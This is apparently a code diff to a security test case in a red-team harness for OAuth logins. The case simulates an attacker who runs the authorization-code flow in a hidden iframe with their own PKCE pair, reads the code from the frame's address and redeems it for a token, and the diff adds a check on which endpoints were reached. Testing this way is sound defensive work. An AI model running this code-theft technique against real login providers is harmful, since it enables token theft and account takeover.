@@ -1,12 +1,13 @@
 // A real attacker: runs the code flow against the provider in a hidden frame with a PKCE pair of their own, reads the
 // code from the frame's address, and redeems it. Against public clients this gives a token of their own.
+import { asked } from "../facts.mjs";
+
 export default {
   row: "silent-login-frame",
   expected: ["loses", "loses"],
   peers: true,
   fresh: true,
-  after: async ({ ours, own, home, id, subject, page, isolated }) => {
-    const { redteam } = globalThis;
+  after: async ({ ours, own, home, id, subject, page, isolated }, redteam) => {
     const encode = (bytes) =>
       btoa(String.fromCharCode(...new Uint8Array(bytes)))
         .replaceAll("+", "-")
@@ -27,13 +28,11 @@ export default {
       code_challenge: challenge,
       code_challenge_method: "S256",
     });
-    const frame = document.createElement("iframe");
-    frame.sandbox = "allow-same-origin";
-    frame.src = `${provider}/${ours ? "auth" : "authorize"}?${query}`;
-    document.body.append(frame);
+    const address = `${provider}/${ours ? "auth" : "authorize"}?${query}`;
+    const frame = redteam.frame({ src: address, sandbox: "allow-same-origin" });
     let code = null;
-    for (let i = 0; i < 100 && !code; i++) {
-      await new Promise((resolve) => setTimeout(resolve, 30));
+    for (const end = Date.now() + 3000; Date.now() < end && !code;) {
+      await redteam.wait(30);
       try {
         code = new URL(frame.contentWindow.location.href).searchParams.get("code");
       } catch {
@@ -53,4 +52,9 @@ export default {
     redteam.loot(answer);
     return { code: code !== null };
   },
+  // The provider was asked for a code, has sent the frame to the endpoints with its answer, and was asked to redeem something.
+  reached: ({ seen, context }) =>
+    asked(seen, "id", "GET", "/auth") > 0 &&
+    asked(seen, context.isolated ? "vault" : "inpage", "GET", "/auth/callback") > 0 &&
+    asked(seen, "id", "POST", "/token") > 0,
 };
